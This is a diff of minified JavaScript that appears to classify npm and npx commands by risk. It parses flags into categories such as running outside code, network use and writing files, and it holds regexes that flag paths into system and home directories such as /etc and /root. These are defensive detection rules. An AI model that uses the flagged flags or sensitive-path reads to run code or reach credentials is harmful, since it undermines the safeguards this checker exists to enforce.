+return}}function lv(n,e){let t=-1,s=!1;for(const r of n.parts)if(!(r.quoted||t<0&&!r.text.includes("{")))for(const{0:i,index:o}of r.
 text.matchAll(/[{},]|\.\./g)){const c=r.start+o;if(i==="{")t<0&&(t=c);else if(i!=="}")s=t>=0;else if(s){const l={start:t,
-end:c+1};e.add("brace-expansion",l,{written:dn(Li(n))});return}}}function XE(n,e,t){const s=A_(n);s!==void 0&&(s==="!"||
-e&&CB(s))&&t.add("shell-grammar",{start:n.start,end:n.end},{written:s})}const vB=zd({text:`
+end:c+1};e.add("brace-expansion",l,{written:dn(ji(n))});return}}}function dv(n,e,t){const s=G_(n);s!==void 0&&(s==="!"||
+e&&EB(s))&&t.add("shell-grammar",{start:n.start,end:n.end},{written:s})}const AB=Kd({text:`
     color no-color foreground-scripts if-present include-workspace-root json loglevel= long offline
     parseable prefer-offline prefer-online progress no-progress unicode no-unicode update-notifier
     no-update-notifier workspace= workspaces no-yes
   `,path:"prefix=","only-prints":"usage version versions","skips-tests":"ignore-scripts","outside-code":"call= global gl\
-obalconfig= node-options= registry= script-shell= shell= userconfig=","uses-network":"package= yes"}),ev=new Set(["--inc\
-lude-workspace-root","--prefix","--workspace","--workspaces"]),tv=new Set(["--bail","--coverage","--runInBand"]),nv=`
+obalconfig= node-options= registry= script-shell= shell= userconfig=","uses-network":"package= yes"}),Bv=new Set(["--inc\
+lude-workspace-root","--prefix","--workspace","--workspaces"]),fv=new Set(["--bail","--coverage","--runInBand"]),hv=`
   -?=usage -C=prefix -H=usage -c=call -d=loglevel:info -dd=loglevel:verbose -ddd=loglevel:silly
   -g=global -h=usage --help=usage -iwr=include-workspace-root -l=long --no=no-yes -p=parseable
   -q=loglevel:warn --quiet=loglevel:warn -s=loglevel:silent --silent=loglevel:silent -v=version
   --verbose=loglevel:verbose -w=workspace -ws=workspaces -y=yes
-`,kB=new Map(nv.trim().split(/\s+/).map(n=>n.split(/[=:]/)).map(([n="",e,t])=>[n,`--${e}${t===void 0?"":`=${t}`}`])),DB=Fi(
+`,SB=new Map(hv.trim().split(/\s+/).map(n=>n.split(/[=:]/)).map(([n="",e,t])=>[n,`--${e}${t===void 0?"":`=${t}`}`])),TB=Pi(
 {"runs-script":"test,t,tst run,run-script start stop","runs-tool":"exec,x","only-prints":"explain,why help ls,list,la,ll\
  prefix query root sbom","uses-network":"ci,clean-install,ic create,init dedupe install,add,i,in install-ci-test,cit ins\
 tall-test,it link,ln prune rebuild,rb uninstall,r,remove,rm,un,unlink update,u,up,upgrade access adduser,add-user deprec\
 ate dist-tag login logout owner profile publish team token unpublish audit diff docs doctor outdated ping search,s view,\
-info,show,v whoami","writes-files":"cache pack pkg shrinkwrap version","outside-code":"config,c get set"});function xB(n,e){
+info,show,v whoami","writes-files":"cache pack pkg shrinkwrap version","outside-code":"config,c get set"});function IB(n,e){
 const t=[],s=n.toReversed();let r;const i=()=>{for(const o of s.reverse())t.push({kind:"operand",word:o});return{tokens:t,
-rest:void 0}};for(let o=s.pop();o!==void 0;o=s.pop()){if(o.text==="--")return i();const c=!Pa(o);if(!c&&r!==void 0){t.push(
-{...r,word:o,next:o});continue}const{written:l,attached:B}=c?sv(o.text,e):{written:o.text,attached:void 0},d=c?e.expand(
+rest:void 0}};for(let o=s.pop();o!==void 0;o=s.pop()){if(o.text==="--")return i();const c=!La(o);if(!c&&r!==void 0){t.push(
+{...r,word:o,next:o});continue}const{written:l,attached:B}=c?pv(o.text,e):{written:o.text,attached:void 0},d=c?e.expand(
 l,B):"operand";if(d==="operand"){if(t.push({kind:"operand",word:o}),e.flags==="first")return i();continue}r=void 0;const h=s.
-at(-1),g=d?.at(-1)?.takes,C=B===void 0&&rv(g,h),y={word:o,written:l,attached:B,next:h,consumes:C};d===void 0&&t.push({kind:"\
+at(-1),g=d?.at(-1)?.takes,C=B===void 0&&mv(g,h),y={word:o,written:l,attached:B,next:h,consumes:C};d===void 0&&t.push({kind:"\
 unknown",...y});for(const[k,E]of d?.entries()??[]){const x=k===(d?.length??0)-1,D={word:o,written:l,attached:void 0,next:void 0,
 consumes:!1};t.push({kind:"flag",part:E,...x?y:D})}if(g==="rest")return{tokens:t,rest:s.reverse()};const _=t.at(-1);g===
-"operands"&&C&&_?.kind==="flag"&&(r=_),C&&!(g==="both"&&h&&!Pa(h))&&s.pop()}return i()}function Pa({text:n}){return!n.startsWith(
-"-")||n==="-"}function sv(n,{equals:e}){return e==="all"||e==="long"&&n.startsWith("--")?La(n):{written:n,attached:void 0}}
-function rv(n,e){if(e===void 0)return!1;switch(n){case"always":case"both":return!0;case"unless-dash":return!e.text.startsWith(
-"-");case"operand":case"operands":return Pa(e);default:return!1}}function iv({word:{span:n},attached:e,next:t,consumes:s}){
-return s&&t?{value:t.text,span:{start:n.start,end:t.span.end}}:e===void 0?{span:n}:{value:e,span:n}}function La(n){const e=n.
-indexOf("=");return e<0?{written:n,attached:void 0}:{written:n.slice(0,e),attached:n.slice(e+1)}}function bs(n,e){const{
-tokens:t,rest:s}=xB(e,lv(n)),r=[],i=[];let o;for(const g of t)g.kind==="flag"&&g.word===o&&/\s/.test(g.written)||(o=g.kind===
-"flag"&&g.consumes?g.next:void 0,g.kind==="flag"&&!ov(n,g,i)?r.push(av(g)):i.push(g.word));const c=n.stops?{operands:[],
+"operands"&&C&&_?.kind==="flag"&&(r=_),C&&!(g==="both"&&h&&!La(h))&&s.pop()}return i()}function La({text:n}){return!n.startsWith(
+"-")||n==="-"}function pv(n,{equals:e}){return e==="all"||e==="long"&&n.startsWith("--")?ja(n):{written:n,attached:void 0}}
+function mv(n,e){if(e===void 0)return!1;switch(n){case"always":case"both":return!0;case"unless-dash":return!e.text.startsWith(
+"-");case"operand":case"operands":return La(e);default:return!1}}function gv({word:{span:n},attached:e,next:t,consumes:s}){
+return s&&t?{value:t.text,span:{start:n.start,end:t.span.end}}:e===void 0?{span:n}:{value:e,span:n}}function ja(n){const e=n.
+indexOf("=");return e<0?{written:n,attached:void 0}:{written:n.slice(0,e),attached:n.slice(e+1)}}function _s(n,e){const{
+tokens:t,rest:s}=IB(e,_v(n)),r=[],i=[];let o;for(const g of t)g.kind==="flag"&&g.word===o&&/\s/.test(g.written)||(o=g.kind===
+"flag"&&g.consumes?g.next:void 0,g.kind==="flag"&&!Cv(n,g,i)?r.push(yv(g)):i.push(g.word));const c=n.stops?{operands:[],
 started:i}:{operands:i,started:[]},l=s&&r.pop();if(s===void 0||l===void 0)return{flags:r,...c};const{word:B,value:d}=l,h=d===
-void 0?s:[{...B,text:d},...s];return{flags:r,...c,rest:{flag:l,words:h}}}function ov({readsBehind:n,handsOn:e},{part:t},s){
-return!!n&&!e&&t.spec===void 0&&s.length>0}function av(n){const{word:e,attached:t,next:s,consumes:r,part:i}=n,{spec:o,negated:c,
+void 0?s:[{...B,text:d},...s];return{flags:r,...c,rest:{flag:l,words:h}}}function Cv({readsBehind:n,handsOn:e},{part:t},s){
+return!!n&&!e&&t.spec===void 0&&s.length>0}function yv(n){const{word:e,attached:t,next:s,consumes:r,part:i}=n,{spec:o,negated:c,
 letter:l,fixed:B=t}=i,d=l??n.written;if(r&&s!==void 0){const _={start:e.span.start,end:s.span.end};return{word:{...e,span:_},
 written:d,flag:o,value:s.text,valueWord:s,off:!1}}const h=s!==void 0&&(!s.text.startsWith("-")||s.text==="-"),g=o===void 0&&
 h?s.text:void 0,C=o?.arity!=="value"&&/^(?:false|0)$/.test(B??""),y=o?.arity!=="rest"&&(c||C);return{word:e,written:d,flag:o,
-value:B??g,off:y}}const cv={none:"never",attached:"never",value:"both",optional:"operand",many:"operands",rest:"rest"};function is(n,e=!1){
-const t=n===void 0?"never":cv[n.arity];return{spec:n,negated:e,takes:e&&t!=="rest"?"never":t}}function uv({flags:n},e,t){
+value:B??g,off:y}}const wv={none:"never",attached:"never",value:"both",optional:"operand",many:"operands",rest:"rest"};function is(n,e=!1){
+const t=n===void 0?"never":wv[n.arity];return{spec:n,negated:e,takes:e&&t!=="rest"?"never":t}}function bv({flags:n},e,t){
 const s=l=>{const B=n.get(l);return{...is(B),takes:B?.arity==="value"?"always":"never"}},r=n.get(e)??n.get(/^-\d+$/.test(
 e)?"-#":"");if(r!==void 0)return[(t===void 0?r.arity!=="attached":r.arity!=="none")?s(r.name):is(void 0)];const i=e.slice(
 0,2);if(!e.startsWith("--")&&n.get(i)?.arity==="value")return[{...s(i),fixed:e.slice(2),takes:"never"}];const o=/^-[A-Za-z]{2,}$/.
 test(e)?[...e.slice(1)]:[];return o.length>0&&o.every(l=>n.get(`-${l}`)?.arity==="none")?o.map(l=>s(`-${l}`)):[is(void 0)]}
-function lv(n){return{flags:n.stops&&!n.readsBehind?"first":"anywhere",equals:n.strict?"long":"all",expand:(e,t)=>{if(n.
-strict)return uv(n,e,t);const s=dv(n,e,t),r=n.handsOn&&!n.readsBehind;return n.stops&&r&&s.some(({spec:o})=>o===void 0)?
-"operand":s}}}function dv(n,e,t){const s=e.replace(/^-+/,""),r=e.startsWith("--"),i=Bv(n,s,r);if(i!==void 0)return[i];if(r||
+function _v(n){return{flags:n.stops&&!n.readsBehind?"first":"anywhere",equals:n.strict?"long":"all",expand:(e,t)=>{if(n.
+strict)return bv(n,e,t);const s=Ev(n,e,t),r=n.handsOn&&!n.readsBehind;return n.stops&&r&&s.some(({spec:o})=>o===void 0)?
+"operand":s}}}function Ev(n,e,t){const s=e.replace(/^-+/,""),r=e.startsWith("--"),i=vv(n,s,r);if(i!==void 0)return[i];if(r||
 s.length<2)return[is(void 0)];const o=[],c=t===void 0?s:`${s}=${t}`;for(let l=0;l<c.length;l+=1){const B=c[l]??"",d=n.flags.
 get(B);if(d===void 0)return[...o,is(void 0)];const h={...is(d),letter:`-${B}`},g=c.slice(l+1);if(g!==""&&(d.arity!=="non\
 e"||g.startsWith("="))){const C=d.arity==="rest"?"rest":"never";return[...o,{...h,fixed:g.replace(/^=/,""),takes:C}]}o.push(
-h)}return o}function Bv(n,e,t){const s=OB(n,e,t)??(t&&n.completes?fv(n,e):void 0);if(s!==void 0)return is(s);if(!/^no-?[A-Za-z]/.
-test(e))return;const r=OB(n,e.replace(/^no-?/,""),t);return r&&is(r,!0)}function fv({flags:n},e){const t=qs(e),s=new Map;
-for(const[i,o]of n)i.startsWith(t)&&s.set(o.name,o);const[r]=s.values();return s.size===1?r:void 0}function OB(n,e,t){const s=qs(
-e),r=t?s.lastIndexOf("."):-1,i=r<0?void 0:n.flags.get(s.slice(r+1));return i===void 0||n.flags.has(s)?wa(n,s):i.kind==="\
-text"?wa(n,s)??i:i}const ja=["outside-code","uses-network","writes-files","tool-writes","only-prints","checks-syntax-onl\
-y","never-ends","skips-tests","weakens","reads-stdin"],hv=["text","choice","path","config","output","tests","code","prel\
-oad","module","node"],pv=["path","text","tests","import"];function AB(n){return ja.includes(n)}const Ma={families:Or,start:()=>({
-launched:[],problems:[]}),tool:()=>({problems:[]})};function _s(n){return n==="node"||n==="npm"||n==="npx"}function Tr(n){
+h)}return o}function vv(n,e,t){const s=$B(n,e,t)??(t&&n.completes?kv(n,e):void 0);if(s!==void 0)return is(s);if(!/^no-?[A-Za-z]/.
+test(e))return;const r=$B(n,e.replace(/^no-?/,""),t);return r&&is(r,!0)}function kv({flags:n},e){const t=qs(e),s=new Map;
+for(const[i,o]of n)i.startsWith(t)&&s.set(o.name,o);const[r]=s.values();return s.size===1?r:void 0}function $B(n,e,t){const s=qs(
+e),r=t?s.lastIndexOf("."):-1,i=r<0?void 0:n.flags.get(s.slice(r+1));return i===void 0||n.flags.has(s)?ba(n,s):i.kind==="\
+text"?ba(n,s)??i:i}const Ma=["outside-code","uses-network","writes-files","tool-writes","only-prints","checks-syntax-onl\
+y","never-ends","skips-tests","weakens","reads-stdin"],Dv=["text","choice","path","config","output","tests","code","prel\
+oad","module","node"],xv=["path","text","tests","import"];function RB(n){return Ma.includes(n)}const Ga={families:Or,start:()=>({
+launched:[],problems:[]}),tool:()=>({problems:[]})};function Es(n){return n==="node"||n==="npm"||n==="npx"}function Tr(n){
 return/^(?:@[a-z0-9~-][a-z0-9._~-]*\/)?[a-z0-9~][a-z0-9._~-]*$/i.test(n)}function At(n,e,{text:t,span:s}){return et(n,s,
-{program:e,flag:t})}function Ui(n,e,t){const{written:s,span:r,value:i}=t,o={program:e,flag:s};return et(n,r,i===void 0?o:
-{...o,value:i})}function SB(n,e){return e?"it takes a value, so it has no `--no-` form":n===void 0||n===""?"its value is\
- missing":n.startsWith("-")?"its value begins with a dash":void 0}const mv=new Set(["--version","-v","-V","--help","-h"]);
-function TB(n){const[e]=n;return n.length===1&&e!==void 0&&mv.has(e.text)?e:void 0}function Ji(n,e){return At("only-prin\
-ts",n,e)}function Es(n){return/^\s*[{[]|^[A-Za-z][A-Za-z0-9+.-]*:/.test(n)||n.split(",").some(e=>Bt(e)===void 0)}function vs(n){
+{program:e,flag:t})}function Ji(n,e,t){const{written:s,span:r,value:i}=t,o={program:e,flag:s};return et(n,r,i===void 0?o:
+{...o,value:i})}function NB(n,e){return e?"it takes a value, so it has no `--no-` form":n===void 0||n===""?"its value is\
+ missing":n.startsWith("-")?"its value begins with a dash":void 0}const Ov=new Set(["--version","-v","-V","--help","-h"]);
+function FB(n){const[e]=n;return n.length===1&&e!==void 0&&Ov.has(e.text)?e:void 0}function Zi(n,e){return At("only-prin\
+ts",n,e)}function vs(n){return/^\s*[{[]|^[A-Za-z][A-Za-z0-9+.-]*:/.test(n)||n.split(",").some(e=>Bt(e)===void 0)}function ks(n){
 return/(?:^|[=,\s])(?:data|file):/i.test(n)?!0:!n.includes("..")||/^(?:[\\/]|[A-Za-z]:)/.test(n)?!1:n.split(/[=,:"']/).some(
-e=>e.includes("..")&&!Cv(e))}function Zi(n){return n.split(/[=,:"']/).some(e=>gv.test(e))}const gv=/^(?:~|\/(?!dev\/(?:null|stdout|stderr)$)(?:boot|dev|etc|home|private|proc|root|sys|tmp|Users|usr|var|Volumes))(?:\/|$)/;
-function Cv(n){return/^[\\/]/.test(n)||Bt(n)!==void 0}function IB(n,e=Ma){const{flags:t,operands:s}=$B(vB,n,kB),[r,...i]=s,
-o=r&&DB.get(r.text),c=o?.kind==="runs-tool",l=RB("npm",t,n,c),B={program:"npm",flags:l.flags};if(r===void 0){const C=NB(
-t)?[]:[Ga("npm",n)];return{invocation:{...B,operands:[],passthrough:[]},problems:[...l.problems,...C]}}if(o===void 0){const C=[
-...DB].find(([k])=>k.startsWith(r.text))?.[1].name??"",y={program:"npm",subcommand:r.text,meant:C},_=[et("unknown-subcom\
+e=>e.includes("..")&&!Sv(e))}function Wi(n){return n.split(/[=,:"']/).some(e=>Av.test(e))}const Av=/^(?:~|\/(?!dev\/(?:null|stdout|stderr)$)(?:boot|dev|etc|home|private|proc|root|sys|tmp|Users|usr|var|Volumes))(?:\/|$)/;
+function Sv(n){return/^[\\/]/.test(n)||Bt(n)!==void 0}function PB(n,e=Ga){const{flags:t,operands:s}=LB(AB,n,SB),[r,...i]=s,
+o=r&&TB.get(r.text),c=o?.kind==="runs-tool",l=jB("npm",t,n,c),B={program:"npm",flags:l.flags};if(r===void 0){const C=MB(
+t)?[]:[Ha("npm",n)];return{invocation:{...B,operands:[],passthrough:[]},problems:[...l.problems,...C]}}if(o===void 0){const C=[
+...TB].find(([k])=>k.startsWith(r.text))?.[1].name??"",y={program:"npm",subcommand:r.text,meant:C},_=[et("unknown-subcom\
 mand",r.span,y),...l.problems];return{invocation:{...B,operands:i,passthrough:[]},problems:_}}const d={...B,subcommand:o.
-name},{invocation:h,problems:g}=Ev(o,{word:r,rest:i},d,e);return{invocation:h,problems:[...g,...l.problems]}}const yv={...vB,
-stops:!0},wv=new Map([...kB,["--no-install","--no-yes"],["-p","--package"]]);function bv(n,e=Ma){const{flags:t,operands:s}=$B(
-yv,n,wv),r=RB("npx",t,n,!0),i={program:"npx",subcommand:"exec",flags:r.flags},[o]=s;if(o===void 0){const{subcommand:y,..._}=i,
-k=NB(t)?[]:[Ga("npx",n)];return{invocation:{..._,operands:[],passthrough:[]},problems:[...r.problems,...k]}}const c=n[n.
+name},{invocation:h,problems:g}=Nv(o,{word:r,rest:i},d,e);return{invocation:h,problems:[...g,...l.problems]}}const Tv={...AB,
+stops:!0},Iv=new Map([...SB,["--no-install","--no-yes"],["-p","--package"]]);function $v(n,e=Ga){const{flags:t,operands:s}=LB(
+Tv,n,Iv),r=jB("npx",t,n,!0),i={program:"npx",subcommand:"exec",flags:r.flags},[o]=s;if(o===void 0){const{subcommand:y,..._}=i,
+k=MB(t)?[]:[Ha("npx",n)];return{invocation:{..._,operands:[],passthrough:[]},problems:[...r.problems,...k]}}const c=n[n.
 indexOf(o)-1],l=s.slice(1).find(({text:y})=>y.startsWith("-")),h=/^--no(?!-install$)/.test(c?.text??"")&&l!==void 0&&c?[
-et("flag-value",c.span,{program:"npx",flag:c.text,fault:"npx takes the next word for its value"})]:[],{invocation:g,problems:C}=FB(
-s,i,e);return{invocation:g,problems:[...C,...r.problems,...h]}}function $B(n,e,t){const s=new Map;for(const l of e){const B=t.
-get(l.text);s.set(B===void 0?l:{...l,text:B},l)}const{flags:r,operands:i,started:o}=bs(n,[...s.keys()]),c=n.stops?o:i;return{
-flags:r,operands:c.map(l=>s.get(l)??l)}}function RB(n,e,t,s){const r=e.map(i=>{const{word:o,value:c,flag:l}=i,B=t.findIndex(
+et("flag-value",c.span,{program:"npx",flag:c.text,fault:"npx takes the next word for its value"})]:[],{invocation:g,problems:C}=GB(
+s,i,e);return{invocation:g,problems:[...C,...r.problems,...h]}}function LB(n,e,t){const s=new Map;for(const l of e){const B=t.
+get(l.text);s.set(B===void 0?l:{...l,text:B},l)}const{flags:r,operands:i,started:o}=_s(n,[...s.keys()]),c=n.stops?o:i;return{
+flags:r,operands:c.map(l=>s.get(l)??l)}}function jB(n,e,t,s){const r=e.map(i=>{const{word:o,value:c,flag:l}=i,B=t.findIndex(
 ({span:P})=>P.start===o.span.start),d=(t[B]?.text??"").replace(/(?<=^--[^=]*)=.*/s,""),[,h,g]=/^--(no-)?(.*)$/s.exec(l?.
 name??d)??[],C=h!==void 0,y={name:`--${g??d}`,written:d,span:o.span,...c!==void 0&&l&&{value:c},...C&&{negated:C}};if(l===
-void 0)return{flag:y,problems:[_v(n,y,t[B+1],s)]};const _=/^(?:true|false|null|always)$/.test(t[B+1]?.text??""),k=l.arity===
-"value"?SB(c,!1):_?"npm reads the next word as its value":void 0,E=AB(l.kind)?l.kind:s&&ev.has(l.name)?"outside-code":void 0,
-x={program:"npm",flag:d,fault:k??""},D=k===void 0?[]:[et("flag-value",o.span,x)];return{flag:y,problems:[...E?[Ui(E,n,y)]:
-[],...D]}});return{flags:r.map(({flag:i})=>i),problems:r.flatMap(({problems:i})=>i)}}function _v(n,e,t,s){const r=Ui("un\
-known-flag",n,e),i=!s&&tv.has(e.written),o=t!==void 0&&!t.text.startsWith("-");return i&&!o?{...r,severity:"warning"}:r}
-function NB(n){return n.some(({flag:e})=>e?.kind==="only-prints"||e?.kind==="outside-code")}function Ev({name:n,kind:e},t,s,r){
-if(e==="runs-script")return vv(n,t,s);if(e!=="runs-tool")return{invocation:{...s,operands:t.rest,passthrough:[]},problems:[
-At(e,s.program,{text:n,span:t.word.span})]};if(t.rest.length>0)return FB(t.rest,s,r);const o=s.flags.some(({name:c})=>c===
-"--call")?[]:[Ga(s.program,[t.word])];return{invocation:{...s,operands:[],passthrough:[]},problems:o}}function vv(n,{word:e,
-rest:t},s){const r=n==="run"?t.slice(0,1):[e],i=n==="run"?t.slice(1):t,[o]=r,c=[];o===void 0?c.push(Ji("npm",{...e,text:"\
-run"})):o.text==="env"&&c.push({...Ji("npm",{...o,text:"run env"}),severity:"error"});const l=TB(i);return l!==void 0&&c.
-push(Ji("npm",l)),{invocation:{...s,operands:r,passthrough:i},problems:c}}function FB([n,...e],t,s){const r={...t,operands:n?
+void 0)return{flag:y,problems:[Rv(n,y,t[B+1],s)]};const _=/^(?:true|false|null|always)$/.test(t[B+1]?.text??""),k=l.arity===
+"value"?NB(c,!1):_?"npm reads the next word as its value":void 0,E=RB(l.kind)?l.kind:s&&Bv.has(l.name)?"outside-code":void 0,
+x={program:"npm",flag:d,fault:k??""},D=k===void 0?[]:[et("flag-value",o.span,x)];return{flag:y,problems:[...E?[Ji(E,n,y)]:
+[],...D]}});return{flags:r.map(({flag:i})=>i),problems:r.flatMap(({problems:i})=>i)}}function Rv(n,e,t,s){const r=Ji("un\
+known-flag",n,e),i=!s&&fv.has(e.written),o=t!==void 0&&!t.text.startsWith("-");return i&&!o?{...r,severity:"warning"}:r}
+function MB(n){return n.some(({flag:e})=>e?.kind==="only-prints"||e?.kind==="outside-code")}function Nv({name:n,kind:e},t,s,r){
+if(e==="runs-script")return Fv(n,t,s);if(e!=="runs-tool")return{invocation:{...s,operands:t.rest,passthrough:[]},problems:[
+At(e,s.program,{text:n,span:t.word.span})]};if(t.rest.length>0)return GB(t.rest,s,r);const o=s.flags.some(({name:c})=>c===
+"--call")?[]:[Ha(s.program,[t.word])];return{invocation:{...s,operands:[],passthrough:[]},problems:o}}function Fv(n,{word:e,
+rest:t},s){const r=n==="run"?t.slice(0,1):[e],i=n==="run"?t.slice(1):t,[o]=r,c=[];o===void 0?c.push(Zi("npm",{...e,text:"\
+run"})):o.text==="env"&&c.push({...Zi("npm",{...o,text:"run env"}),severity:"error"});const l=FB(i);return l!==void 0&&c.
+push(Zi("npm",l)),{invocation:{...s,operands:r,passthrough:i},problems:c}}function GB([n,...e],t,s){const r={...t,operands:n?
 [n]:[],passthrough:e};if(n===void 0)return{invocation:r,problems:[]};if(!Tr(n.text))return{invocation:r,problems:[At("us\
-es-network",t.program,n)]};const{problems:i,...o}=s.tool(n,e);return{invocation:{...r,...o},problems:i}}function Ga(n,e){
-const t=e[0]?.span.start??0,s=e.at(-1)?.span.end??0;return et("nothing-to-run",{start:t,end:s},{program:n})}function PB(n){
-try{return n()}catch{return}}var Ha=ot(6);const kv=new Set(`js mjs cjs jsx ts mts cts tsx vue svelte astro py pyi rs go \
+es-network",t.program,n)]};const{problems:i,...o}=s.tool(n,e);return{invocation:{...r,...o},problems:i}}function Ha(n,e){
+const t=e[0]?.span.start??0,s=e.at(-1)?.span.end??0;return et("nothing-to-run",{start:t,end:s},{program:n})}function HB(n){
+try{return n()}catch{return}}var za=ot(6);const Pv=new Set(`js mjs cjs jsx ts mts cts tsx vue svelte astro py pyi rs go \
 java kt kts scala groovy c h cc cpp cxx hh
   hpp cs fs vb rb php swift m mm dart ex exs erl hs elm clj cljs lua pl pm r jl nim zig sh bash zsh ps1 sql
-  css scss sass less html graphql proto`.split(/\s+/)),Dv=new Set("applescript awk bat cljc cmd csh fish fsx gradle htm \
-ksh mk ml mli psm1 pyw sed tcl vbs".split(" ")),xv=new Set("ini json json5 jsonl toml yaml yml".split(" ")),Ov=/^(?:(?:GNU)?Makefile|Dockerfile|Jenkinsfile|Rakefile|Gemfile|justfile)$/i;
-function Av(n){return kv.has(Ua(n))}function za(n){return Av(n)||Dv.has(Ua(n))}function IN(n){return za(n)||xv.has(Ua(n))||
-Ov.test(posix.basename(n))}const Sv=/\.(?:md|mdx|markdown|txt|rst|adoc)$|(?:^|\/)(?:licen[cs]e|readme|changelog)[^/]*$/i;
-function Tv(n){return Sv.test(n)}function $N(n){return(za(n)||!posix.basename(n).includes("."))&&!Tv(n)}function Ua(n){return He.
-posix.extname(n).slice(1).toLowerCase()}const Iv={tests:"tests?|__tests__|specs?|e2e|cypress|playwright",data:"__mocks__\
-|__snapshots__|__fixtures__|fixtures?|testdata|test-utils",beside:"features|bench(?:marks?)?"},$v=/(?:^|\/)(?:tests?|spec|[^/]*[._-](?:tests?|spec|tst|test-d|cy)|test[_-][^/]*|[^/]*(?:Tests?|IT|Spec))\.[^./]+$/,
-Rv=/(?:^|\/)(?:conftest|(?:[^/]*[._-])?(?:bench|stories))\.[^./]+$/,[Nv,Fv,Pv]=Object.values(Iv).map(n=>new RegExp(`(?:^\
-|/)(?:${n})/`,"i"));function Lv(n){return Nv.test(n)||$v.test(n)}function jv(n){return Fv.test(n)||n.endsWith(".snap")}function RN(n){
-return Lv(n)||jv(n)||Pv.test(n)||Rv.test(n)}const Ja=["npm-shrinkwrap.json","package-lock.json"],Wi=[...Ja,"pnpm-lock.ya\
-ml","yarn.lock","bun.lock","bun.lockb"],Mv=/^(?:(?:deno|Cargo|Gemfile|composer|poetry|uv|pdm|Pipfile)\.lock|go\.sum|gradle\.lockfile|requirements.*\.txt)$/;
-function NN(n){return Wi.includes(n)||Mv.test(n)}const Gv=/^(?:package\.(?:json5?|yaml)|\.npmrc|\.yarnrc(?:\.yml)?|\.pnp\.[\w.]+|pnpm-workspace\.yaml|\.pnpmfile\.[cm]?js|bunfig\.toml|binding\.gyp)$/;
-function FN(n){return Wi.includes(n)||Gv.test(n)}const kn="{js,cjs,mjs,ts,cts,mts}",LB="{json,jsonc,json5,yaml,yml,toml}",
-Qt=`{${kn.slice(1,-1)},${LB.slice(1,-1)}}`,Hv={vitest:`vitest.config.${kn} vitest.workspace.${Qt} vite.config.${kn}`,jest:`\
-jest.config.${Qt} jest.setup.${kn}`,mocha:`.mocharc .mocharc.${Qt}`,ava:"ava.config.{js,cjs,mjs}",jasmine:"jasmine.{json\
-,js,mjs,cjs}",tap:".taprc",playwright:`playwright.config.${kn}`,cypress:`cypress.config.${kn}`,eslint:`eslint.config.${kn}\
- .eslintrc .eslintrc.${Qt} .eslintignore eslint-suppressions.json`,prettier:`.prettierrc .prettierrc.${Qt} prettier.conf\
-ig.${kn} .prettierignore .editorconfig`,stylelint:`.stylelintrc .stylelintrc.${Qt} stylelint.config.${kn} .stylelintigno\
-re`,biome:"biome.json biome.jsonc .biome.json .biome.jsonc",knip:`knip.${Qt} .knip.${LB} knip.config.${kn}`,markdownlint:`\
-.markdownlint.${Qt} .markdownlint-cli2.${Qt} .markdownlintignore .markdownlintrc`,cspell:`cspell.${Qt} .cspell.${Qt} csp\
-ell.config.${Qt}`,typescript:"tsconfig.json tsconfig.*.json jsconfig.json *.tsbuildinfo",nyc:`.nycrc .nycrc.${Qt} nyc.co\
-nfig.${kn}`,c8:".c8rc .c8rc.json",babel:`babel.config.${Qt} .babelrc .babelrc.${Qt}`,swc:".swcrc",pytest:"pytest.toml .p\
+  css scss sass less html graphql proto`.split(/\s+/)),Lv=new Set("applescript awk bat cljc cmd csh fish fsx gradle htm \
+ksh mk ml mli psm1 pyw sed tcl vbs".split(" ")),jv=new Set("ini json json5 jsonl toml yaml yml".split(" ")),Mv=/^(?:(?:GNU)?Makefile|Dockerfile|Jenkinsfile|Rakefile|Gemfile|justfile)$/i;
+function Gv(n){return Pv.has(Ja(n))}function Ua(n){return Gv(n)||Lv.has(Ja(n))}function UN(n){return Ua(n)||jv.has(Ja(n))||
+Mv.test(posix.basename(n))}const Hv=/\.(?:md|mdx|markdown|txt|rst|adoc)$|(?:^|\/)(?:licen[cs]e|readme|changelog)[^/]*$/i;
+function zv(n){return Hv.test(n)}function JN(n){return(Ua(n)||!posix.basename(n).includes("."))&&!zv(n)}function Ja(n){return He.
+posix.extname(n).slice(1).toLowerCase()}const Uv={tests:"tests?|__tests__|specs?|e2e|cypress|playwright",data:"__mocks__\
+|__snapshots__|__fixtures__|fixtures?|testdata|test-utils",beside:"features|bench(?:marks?)?"},Jv=/(?:^|\/)(?:tests?|spec|[^/]*[._-](?:tests?|spec|tst|test-d|cy)|test[_-][^/]*|[^/]*(?:Tests?|IT|Spec))\.[^./]+$/,
+Zv=/(?:^|\/)(?:conftest|(?:[^/]*[._-])?(?:bench|stories))\.[^./]+$/,[Wv,Kv,qv]=Object.values(Uv).map(n=>new RegExp(`(?:^\
+|/)(?:${n})/`,"i"));function Yv(n){return Wv.test(n)||Jv.test(n)}function Vv(n){return Kv.test(n)||n.endsWith(".snap")}function ZN(n){
+return Yv(n)||Vv(n)||qv.test(n)||Zv.test(n)}const Za=["npm-shrinkwrap.json","package-lock.json"],Ki=[...Za,"pnpm-lock.ya\
+ml","yarn.lock","bun.lock","bun.lockb"],Qv=/^(?:(?:deno|Cargo|Gemfile|composer|poetry|uv|pdm|Pipfile)\.lock|go\.sum|gradle\.lockfile|requirements.*\.txt)$/;
+function WN(n){return Ki.includes(n)||Qv.test(n)}const Xv=/^(?:package\.(?:json5?|yaml)|\.npmrc|\.yarnrc(?:\.yml)?|\.pnp\.[\w.]+|pnpm-workspace\.yaml|\.pnpmfile\.[cm]?js|bunfig\.toml|binding\.gyp)$/;
+function KN(n){return Ki.includes(n)||Xv.test(n)}const Dn="{js,cjs,mjs,ts,cts,mts}",zB="{json,jsonc,json5,yaml,yml,toml}",
+Xt=`{${Dn.slice(1,-1)},${zB.slice(1,-1)}}`,ek={vitest:`vitest.config.${Dn} vitest.workspace.${Xt} vite.config.${Dn}`,jest:`\
+jest.config.${Xt} jest.setup.${Dn}`,mocha:`.mocharc .mocharc.${Xt}`,ava:"ava.config.{js,cjs,mjs}",jasmine:"jasmine.{json\
+,js,mjs,cjs}",tap:".taprc",playwright:`playwright.config.${Dn}`,cypress:`cypress.config.${Dn}`,eslint:`eslint.config.${Dn}\
+ .eslintrc .eslintrc.${Xt} .eslintignore eslint-suppressions.json`,prettier:`.prettierrc .prettierrc.${Xt} prettier.conf\
+ig.${Dn} .prettierignore .editorconfig`,stylelint:`.stylelintrc .stylelintrc.${Xt} stylelint.config.${Dn} .stylelintigno\
+re`,biome:"biome.json biome.jsonc .biome.json .biome.jsonc",knip:`knip.${Xt} .knip.${zB} knip.config.${Dn}`,markdownlint:`\
